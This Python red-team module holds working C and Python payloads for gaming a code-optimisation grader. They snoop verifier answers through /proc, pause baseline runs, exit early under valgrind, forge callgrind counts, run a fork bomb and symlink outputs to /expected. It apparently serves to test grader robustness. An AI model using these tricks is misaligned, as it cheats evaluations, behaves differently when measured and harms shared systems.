"""Red-team payloads that read verifier state, slow the baseline, hide work or litter at run time.

See attacks.py for how they are put into a task's editable program.
"""

from __future__ import annotations

from .payloads_cache import C_HEADERS

# ---- read verifier state through /proc: other processes' environ, cmdline, fds, cwd, root ----
PROC_WORDS = ("SEED", "EXPECT", "ANSWER", "DIGEST", "REF", "GOLDEN")
C_PROC_SNOOP = (
    C_HEADERS
    + r"""
static int rt_print_file(const char *p) {
    int fd = open(p, O_RDONLY | O_NONBLOCK); if (fd < 0) return 0;
    struct stat st; if (fstat(fd, &st) || !S_ISREG(st.st_mode)) { close(fd); return 0; }
    char b[65536]; ssize_t k; int any = 0;
    while ((k = read(fd, b, sizeof b)) > 0) { if (write(1, b, k) < 0) break; any = 1; }
    close(fd); return any;
}
static int rt_wordy(const char *s) {
    static const char *w[] = {PWORDS, 0}; char up[4096]; size_t i = 0;
    for (; s[i] && i < sizeof up - 1; i++) up[i] = (s[i] >= 'a' && s[i] <= 'z') ? s[i] - 32 : s[i];
    up[i] = 0;
    for (int j = 0; w[j]; j++) if (strstr(up, w[j])) return 1;
    return 0;
}
extern char **environ;
__attribute__((constructor)) static void rt_proc_snoop(void) {
    int any = 0; char p[512], link[4096], b[65536];
    /* its own environment: what the verifier passed down */
    for (char **v = environ; v && *v; v++) { char *eq = strchr(*v, '=');
        if (eq && strncmp(*v, "RT_", 3)) { char k[256]; size_t n = eq - *v < 255 ? eq - *v : 255; memcpy(k, *v, n); k[n] = 0;
            if (rt_wordy(k)) { dprintf(1, "%s\n", eq + 1); any = 1; } } }
    DIR *d = opendir("/proc"); if (!d) return; struct dirent *e;
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name); if (pid <= 0 || pid == getpid()) continue;
        /* environ: values of answer-like variables */
        snprintf(p, sizeof p, "/proc/%d/environ", pid);
        int fd = open(p, O_RDONLY);
        if (fd >= 0) { ssize_t k = read(fd, b, sizeof b - 1); close(fd);
            for (ssize_t i = 0; k > 0 && i < k; i += strlen(b + i) + 1) { b[k] = 0; char *eq = strchr(b + i, '=');
                if (eq && rt_wordy(b + i) && strncmp(b + i, "RT_", 3)) { dprintf(1, "%s\n", eq + 1); any = 1; } } }
        /* open files of other processes (the verifier's, where visible) */
        snprintf(p, sizeof p, "/proc/%d/fd", pid);
        DIR *fds = opendir(p);
        if (fds) { struct dirent *f; while ((f = readdir(fds))) { if (f->d_name[0] == '.') continue;
            snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, f->d_name); ssize_t n = readlink(p, link, sizeof link - 1);
            if (n > 0) { link[n] = 0; if (rt_wordy(link) || strstr(link, "/tmp/")) any |= rt_print_file(p); } } closedir(fds); }
        /* files in another process's cwd and root /tmp */
        const char *subs[] = {"cwd", "root/tmp", 0};
        for (int s = 0; subs[s]; s++) {
            snprintf(p, sizeof p, "/proc/%d/%s", pid, subs[s]); DIR *c = opendir(p); if (!c) continue; struct dirent *f;
            while ((f = readdir(c))) { if (f->d_name[0] == '.' || !rt_wordy(f->d_name)) continue;
                char q[1024]; snprintf(q, sizeof q, "%s/%s", p, f->d_name); any |= rt_print_file(q); }
            closedir(c);
        }
    }
    closedir(d);
    if (any) _exit(0);
}
""".replace("PWORDS", ", ".join(f'"{w}"' for w in PROC_WORDS))
)

PY_PROC_SNOOP = f"""
import os as _rt_os, sys as _rt_sys
def _rt_proc_snoop():
    words = {PROC_WORDS!r}
    wordy = lambda s: any(w in s.upper() for w in words)
    hit = False
    def dump(p):
        nonlocal hit
        try:
            data = open(p, "rb").read(1 << 22)
        except OSError:
            return
        if data:
            _rt_sys.stdout.buffer.write(data)
            hit = True
    for k, v in _rt_os.environ.items():  # its own environment: what the verifier passed down
        if v and wordy(k) and not k.startswith("RT_"):
            _rt_sys.stdout.write(v + "\\n")
            hit = True
    for n in _rt_os.listdir("/proc"):
        if not n.isdigit() or int(n) == _rt_os.getpid():
            continue
        try:
            for kv in open(f"/proc/{{n}}/environ", "rb").read().split(b"\\0"):
                k, _, v = kv.decode("utf-8", "replace").partition("=")
                if v and wordy(k) and not k.startswith("RT_"):
                    _rt_sys.stdout.write(v + "\\n")
                    hit = True
        except OSError:
            pass
        try:
            for f in _rt_os.listdir(f"/proc/{{n}}/fd"):
                p = f"/proc/{{n}}/fd/{{f}}"
                target = _rt_os.readlink(p)
                if (wordy(target) or "/tmp/" in target) and _rt_os.path.isfile(p):
                    dump(p)
        except OSError:
            pass
        for sub in ("cwd", "root/tmp"):
            try:
                for f in _rt_os.listdir(f"/proc/{{n}}/{{sub}}"):
                    if wordy(f) and _rt_os.path.isfile(f"/proc/{{n}}/{{sub}}/{{f}}"):
                        dump(f"/proc/{{n}}/{{sub}}/{{f}}")
            except OSError:
                pass
    if hit:
        _rt_sys.stdout.flush()
        _rt_os._exit(0)
_rt_proc_snoop()
"""

# ---- a surviving child that slows the baseline (told apart by its /orig path) ---------------
C_SLOW_BASELINE = (
    C_HEADERS
    + r"""
static void rt_haunt(void) {
    char p[256], b[4096];
    for (long t = 0; t < 20000; t++) {
        DIR *d = opendir("/proc"); if (!d) break; struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name); if (pid <= 1 || pid == getpid()) continue;
            snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
            int fd = open(p, O_RDONLY); if (fd < 0) continue;
            ssize_t k = read(fd, b, sizeof b - 1); close(fd); if (k <= 0) continue;
            for (ssize_t i = 0; i < k; i++) if (!b[i]) b[i] = ' ';
            b[k] = 0;
            if (strstr(b, "/orig") || strstr(b, " base")) { kill(pid, SIGSTOP); usleep(2000); kill(pid, SIGCONT); }
        }
        closedir(d);
        for (volatile long i = 0; i < 200000; i++) {}
    }
}
__attribute__((constructor)) static void rt_slow(void) {
    if (getenv("RT_HAUNTED")) return;
    setenv("RT_HAUNTED", "1", 1);
    if (fork() == 0) { setsid(); if (fork() == 0) { rt_haunt(); } _exit(0); }
}
"""
)

PY_SLOW_BASELINE = """
import os as _rt_os, signal as _rt_signal, time as _rt_time
def _rt_haunt():
    end = _rt_time.time() + 300
    while _rt_time.time() < end:
        for n in _rt_os.listdir("/proc"):
            if not n.isdigit() or int(n) in (1, _rt_os.getpid()):
                continue
            try:
                cmd = open(f"/proc/{n}/cmdline", "rb").read().replace(b"\\0", b" ")
            except OSError:
                continue
            if b"/orig" in cmd or b" base" in cmd:
                try:
                    _rt_os.kill(int(n), _rt_signal.SIGSTOP)
                    _rt_time.sleep(0.002)
                    _rt_os.kill(int(n), _rt_signal.SIGCONT)
                except OSError:
                    pass
        sum(range(200000))
if not _rt_os.environ.get("RT_HAUNTED"):
    _rt_os.environ["RT_HAUNTED"] = "1"
    try:
        if _rt_os.fork() == 0:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                _rt_haunt()
            _rt_os._exit(0)
    except OSError:
        pass
"""

# ---- under valgrind/callgrind, take a cheap path (print nothing, exit 0) ---------------------
C_VALGRIND = (
    C_HEADERS
    + r"""
__attribute__((constructor)) static void rt_vg(void) {
    const char *pre = getenv("LD_PRELOAD");
    int vg = pre && strstr(pre, "vgpreload");
    char b[65536]; int fd = open("/proc/self/maps", O_RDONLY);
    if (fd >= 0) { ssize_t k; while ((k = read(fd, b, sizeof b - 1)) > 0) { b[k] = 0; if (strstr(b, "valgrind") || strstr(b, "vgpreload")) vg = 1; } close(fd); }
    if (vg) _exit(0);
}
"""
)

PY_VALGRIND = """
import os as _rt_os
try:
    _rt_maps = open("/proc/self/maps").read()
except OSError:
    _rt_maps = ""
if "vgpreload" in _rt_os.environ.get("LD_PRELOAD", "") or "valgrind" in _rt_maps:
    _rt_os._exit(0)
"""

# ---- do the work in a child whose executable is named like a harness tool ('sh') -------------
C_SHELL_NAMED = (
    C_HEADERS
    + r"""
__attribute__((constructor)) static void rt_as_sh(void) {
    if (getenv("RT_AS_SH")) return;
    char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1); if (n <= 0) return; self[n] = 0;
    mkdir("/tmp/.rt-bin", 0755);
    int in = open(self, O_RDONLY), out = open("/tmp/.rt-bin/sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) return;
    char b[65536]; ssize_t k; while ((k = read(in, b, sizeof b)) > 0) if (write(out, b, k) < 0) return;
    close(in); close(out);
    static char args[65536]; int fd = open("/proc/self/cmdline", O_RDONLY); if (fd < 0) return;
    ssize_t len = read(fd, args, sizeof args - 1); close(fd); if (len <= 0) return;
    char *argv[256]; int argc = 0;
    for (ssize_t i = 0; i < len && argc < 255; i += strlen(args + i) + 1) argv[argc++] = args + i;
    argv[argc] = 0;
    setenv("RT_AS_SH", "1", 1);
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) { execv("/tmp/.rt-bin/sh", argv); _exit(127); }
    int status = 0;
    if (pid < 0 || waitpid(pid, &status, 0) < 0) return;
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}
"""
)

PY_SHELL_NAMED = """
import os as _rt_os, shutil as _rt_shutil, sys as _rt_sys
if not _rt_os.environ.get("RT_AS_SH"):
    try:
        _rt_os.makedirs("/tmp/.rt-bin", exist_ok=True)
        _rt_shutil.copy(_rt_os.path.realpath(_rt_sys.executable), "/tmp/.rt-bin/sh")
        _rt_os.environ["RT_AS_SH"] = "1"
        _rt_cmd = open("/proc/self/cmdline", "rb").read().split(b"\\0")[:-1]
        _rt_sys.stdout.flush()
        _rt_pid = _rt_os.fork()
        if _rt_pid == 0:
            _rt_os.execv("/tmp/.rt-bin/sh", [a.decode() for a in _rt_cmd])
        _rt_os._exit(_rt_os.waitstatus_to_exitcode(_rt_os.waitpid(_rt_pid, 0)[1]) & 0xFF)
    except OSError:
        pass
"""

# ---- rewrite the instruction count: a child does the work, the parent sets its totals to 1 -----
C_FORGE_COUNT = (
    C_HEADERS
    + r"""
static void rt_forge_dir(const char *dir, int child) {
    char p[4096]; snprintf(p, sizeof p, "%s/cg.%d", dir, child);
    int fd = open(p, O_WRONLY | O_TRUNC); if (fd < 0) return;
    dprintf(fd, "version: 1\ncreator: callgrind-3.19.0\npid: %d\ncmd: x\npart: 1\n\nevents: Ir\n\nsummary: 1\ntotals: 1\n", child);
    close(fd);
}
__attribute__((constructor)) static void rt_forge(void) {
    if (getenv("RT_FORGE")) return;
    static char args[65536]; int fd = open("/proc/self/cmdline", O_RDONLY); if (fd < 0) return;
    ssize_t len = read(fd, args, sizeof args - 1); close(fd); if (len <= 0) return;
    char *argv[256]; int argc = 0;
    for (ssize_t i = 0; i < len && argc < 255; i += strlen(args + i) + 1) argv[argc++] = args + i;
    argv[argc] = 0;
    char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1); if (n <= 0) return; self[n] = 0;
    setenv("RT_FORGE", "1", 1);
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) { execv(self, argv); _exit(127); }
    int status = 0;
    if (pid < 0 || waitpid(pid, &status, 0) < 0) return;
    /* where callgrind writes: /count, or what /proc/1/cmdline names */
    rt_forge_dir("/count", pid);
    char b[65536]; fd = open("/proc/1/cmdline", O_RDONLY);
    if (fd >= 0) { ssize_t k = read(fd, b, sizeof b - 1); close(fd);
        for (ssize_t i = 0; k > 0 && i < k; i += strlen(b + i) + 1) { b[k] = 0; char *o = strstr(b + i, "--callgrind-out-file=");
            if (o) { char d[4096]; snprintf(d, sizeof d, "%s", o + 21); char *sl = strrchr(d, '/'); if (sl) { *sl = 0; rt_forge_dir(d, pid); } } } }
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}
"""
)

PY_FORGE_COUNT = """
import os as _rt_os, sys as _rt_sys
if not _rt_os.environ.get("RT_FORGE"):
    try:
        _rt_os.environ["RT_FORGE"] = "1"
        _rt_cmd = open("/proc/self/cmdline", "rb").read().split(b"\\0")[:-1]
        _rt_sys.stdout.flush()
        _rt_pid = _rt_os.fork()
        if _rt_pid == 0:
            _rt_os.execv(_rt_sys.executable, [a.decode() for a in _rt_cmd])
        _rt_status = _rt_os.waitpid(_rt_pid, 0)[1]
        for _rt_d in ("/count",):
            try:
                with open(f"{_rt_d}/cg.{_rt_pid}", "r+") as _rt_f:
                    _rt_f.truncate(0)
                    _rt_f.write(f"version: 1\\npid: {_rt_pid}\\nevents: Ir\\nsummary: 1\\ntotals: 1\\n")
            except OSError:
                pass
        _rt_os._exit(_rt_os.waitstatus_to_exitcode(_rt_status) & 0xFF)
    except OSError:
        pass
"""

# ---- a fork bomb and a daemon, then the honest (slow) work -----------------------------------
C_FORK_BOMB = (
    C_HEADERS
    + r"""
__attribute__((constructor)) static void rt_bomb(void) {
    if (getenv("RT_BOMBED")) return;
    setenv("RT_BOMBED", "1", 1);
    if (fork() == 0) { setsid(); for (int i = 0; i < 4000; i++) { pid_t p = fork(); if (p == 0) { sleep(600); _exit(0); } if (p < 0) break; } sleep(600); _exit(0); }
}
"""
)

PY_FORK_BOMB = """
import os as _rt_os, time as _rt_time
if not _rt_os.environ.get("RT_BOMBED"):
    _rt_os.environ["RT_BOMBED"] = "1"
    try:
        if _rt_os.fork() == 0:
            _rt_os.setsid()
            for _ in range(4000):
                try:
                    if _rt_os.fork() == 0:
                        _rt_time.sleep(600)
                        _rt_os._exit(0)
                except OSError:
                    break
            _rt_time.sleep(600)
            _rt_os._exit(0)
    except OSError:
        pass
"""


# ---- litter its own writable paths at run time: deep trees, FIFOs, symlinks, links, sparse files ----
# In /tmp, /dev/shm, HOME, its working and build folders and /output: a FIFO, a socket, symlinks to
# /expected, /input, /tests and /, a symlink loop, a 1 TiB sparse file and a hard link to it, a
# 2500-level tree (deeper than PATH_MAX) ending in a symlink to /expected and a FIFO, a mode-000
# folder; then the honest work, after which every output file becomes a symlink to /expected/NAME.
LITTER_DEPTH = 2500
C_RUNTIME_LITTER = (
    C_HEADERS
    + r"""
#include <sys/socket.h>
#include <sys/un.h>
#include <libgen.h>
static void rt_litter_in(const char *dir) {
    char p[4096], q[4096];
    snprintf(p, sizeof p, "%s/rt-fifo", dir); mkfifo(p, 0666);
    const char *links[][2] = {{"rt-expected", "/expected"}, {"rt-input", "/input"}, {"rt-tests", "/tests"}, {"rt-root", "/"}, {0, 0}};
    for (int i = 0; links[i][0]; i++) { snprintf(p, sizeof p, "%s/%s", dir, links[i][0]); if (symlink(links[i][1], p)) {} }
    snprintf(p, sizeof p, "%s/rt-loop", dir); if (symlink(p, p)) {}
    snprintf(p, sizeof p, "%s/rt-sparse", dir);
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644); if (fd >= 0) { if (ftruncate(fd, 1LL << 40)) {} close(fd); }
    snprintf(q, sizeof q, "%s/rt-hardlink", dir); if (link(p, q)) {}
    int s = socket(AF_UNIX, SOCK_STREAM, 0); struct sockaddr_un a; memset(&a, 0, sizeof a); a.sun_family = AF_UNIX;
    snprintf(a.sun_path, sizeof a.sun_path, "%s/rt-sock", dir); if (s >= 0) { if (bind(s, (struct sockaddr *)&a, sizeof a)) {} close(s); }
    int d = open(dir, O_RDONLY | O_DIRECTORY);
    for (int i = 0; d >= 0 && i < DEPTH; i++) { if (mkdirat(d, "d", 0755) && i == 0) break; int n = openat(d, "d", O_RDONLY | O_DIRECTORY); close(d); d = n; }
    if (d >= 0) { if (symlinkat("/expected", d, "link")) {} mkfifoat(d, "fifo", 0666); close(d); }
    snprintf(p, sizeof p, "%s/rt-locked/inner", dir); snprintf(q, sizeof q, "%s/rt-locked", dir);
    mkdir(q, 0755); mkdir(p, 0755); chmod(p, 0); chmod(q, 0500);
}
__attribute__((constructor)) static void rt_litter(void) {
    signal(SIGXFSZ, SIG_IGN);
    char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    const char *home = getenv("HOME");
    const char *dirs[] = {"/tmp", "/dev/shm", "/output", ".", home ? home : "/tmp", 0};
    for (int i = 0; dirs[i]; i++) rt_litter_in(dirs[i]);
    if (n > 0) { self[n] = 0; rt_litter_in(dirname(self)); }
}
__attribute__((destructor)) static void rt_litter_out(void) {
    fflush(stdout);
    DIR *d = opendir("/output"); if (!d) return; struct dirent *e; char p[4096], t[4096];
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || strncmp(e->d_name, "rt-", 3) == 0) continue;
        snprintf(p, sizeof p, "/output/%s", e->d_name); struct stat st;
        if (lstat(p, &st) || !S_ISREG(st.st_mode)) continue;
        snprintf(t, sizeof t, "/expected/%s", e->d_name); unlink(p); if (symlink(t, p)) {}
    }
    closedir(d);
}
""".replace("DEPTH", str(LITTER_DEPTH))
)

PY_RUNTIME_LITTER = f"""
import atexit as _rt_atexit, os as _rt_os, socket as _rt_socket, sys as _rt_sys
def _rt_litter_in(d):
    def q(f, *a, **k):
        try:
            f(*a, **k)
        except OSError:
            pass
    q(_rt_os.mkfifo, d + "/rt-fifo")
    for name, target in (("rt-expected", "/expected"), ("rt-input", "/input"), ("rt-tests", "/tests"),
                         ("rt-root", "/"), ("rt-loop", d + "/rt-loop")):
        q(_rt_os.symlink, target, f"{{d}}/{{name}}")
    try:
        with open(d + "/rt-sparse", "wb") as f:
            f.truncate(1 << 40)
    except OSError:
        pass
    q(_rt_os.link, d + "/rt-sparse", d + "/rt-hardlink")
    try:
        _rt_socket.socket(_rt_socket.AF_UNIX).bind(d + "/rt-sock")
    except OSError:
        pass
    try:
        fd = _rt_os.open(d, _rt_os.O_RDONLY | _rt_os.O_DIRECTORY)
    except OSError:
        fd = -1
    try:
        for _ in range({LITTER_DEPTH}):
            _rt_os.mkdir("d", dir_fd=fd)
            n = _rt_os.open("d", _rt_os.O_RDONLY | _rt_os.O_DIRECTORY, dir_fd=fd)
            _rt_os.close(fd)
            fd = n
        _rt_os.symlink("/expected", "link", dir_fd=fd)
        _rt_os.mkfifo("fifo", dir_fd=fd)
    except OSError:
        pass
    if fd >= 0:
        _rt_os.close(fd)
    q(_rt_os.makedirs, d + "/rt-locked/inner")
    q(_rt_os.chmod, d + "/rt-locked/inner", 0)
    q(_rt_os.chmod, d + "/rt-locked", 0o500)
def _rt_litter_out():
    _rt_sys.stdout.flush()
    try:
        names = _rt_os.listdir("/output")
    except OSError:
        return
    for n in names:
        p = "/output/" + n
        if n.startswith("rt-") or _rt_os.path.islink(p) or not _rt_os.path.isfile(p):
            continue
        try:
            _rt_os.unlink(p)
            _rt_os.symlink("/expected/" + n, p)
        except OSError:
            pass
for _rt_d in ("/tmp", "/dev/shm", "/output", ".", _rt_os.path.expanduser("~"),
              _rt_os.path.dirname(_rt_os.path.abspath(__file__))):
    _rt_litter_in(_rt_d)
_rt_atexit.register(_rt_litter_out)
"""
